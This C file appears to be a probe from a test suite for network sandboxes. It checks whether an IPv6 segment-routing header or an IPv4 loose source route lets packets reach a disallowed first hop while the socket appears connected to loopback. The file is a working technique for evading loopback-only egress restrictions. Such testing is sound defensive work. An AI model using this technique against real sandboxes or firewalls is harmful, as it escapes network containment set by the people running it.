// SPDX-License-Identifier: GPL-2.0-or-later
// A source route sends what is addressed to loopback to a first hop elsewhere: the socket is
// connected to where it may be, and its packets leave for where they may not (seen on the wire with
// Linux 6.18: IPV6_RTHDR of type 4 as any user, IP_OPTIONS with CAP_NET_RAW).
#define _GNU_SOURCE
#include "attack.h"
#include <linux/in6.h>

#define SEGMENT_ROUTING 4

struct routing_header {
	unsigned char next, length, type, left, first, flags;
	unsigned short tag;
	struct in6_addr segments[2];
};

static int ipv6(int type)
{
	struct routing_header route = {.length = 4, .type = SEGMENT_ROUTING, .left = 1, .first = 1};
	struct sockaddr_in6 here = {.sin6_family = AF_INET6, .sin6_port = htons(8081),
				    .sin6_addr = IN6ADDR_LOOPBACK_INIT};
	int fd = socket(AF_INET6, type | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET6, "2001:db8::1", &route.segments[1]);
	if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, &route, sizeof route) != 0)
		return 0;
	return type == SOCK_STREAM || connect(fd, (void *)&here, sizeof here) == 0;
}

static int ipv4(int type)
{
	unsigned char route[8] = {131, 7, 4, 192, 0, 2, 1, 1}; // loose source route, one hop
	int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
	struct sockaddr_in here = loopback();

	if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, route, sizeof route) != 0)
		return 0;
	return type == SOCK_STREAM || connect(fd, (void *)&here, sizeof here) == 0;
}

int main(int argc, char **argv)
{
	const char *how = argc > 1 ? argv[1] : "rthdr-udp";
	int native = argc > 2 && !strcmp(argv[2], "native"), won;
	int type = strstr(how, "tcp") ? SOCK_STREAM : SOCK_DGRAM;

	won = strncmp(how, "rthdr", 5) ? ipv4(type) : ipv6(type);
	if (!won && native) // no IPv6, no segment routing, no CAP_NET_RAW
		return UNAVAILABLE;
	return verdict(how, won);
}
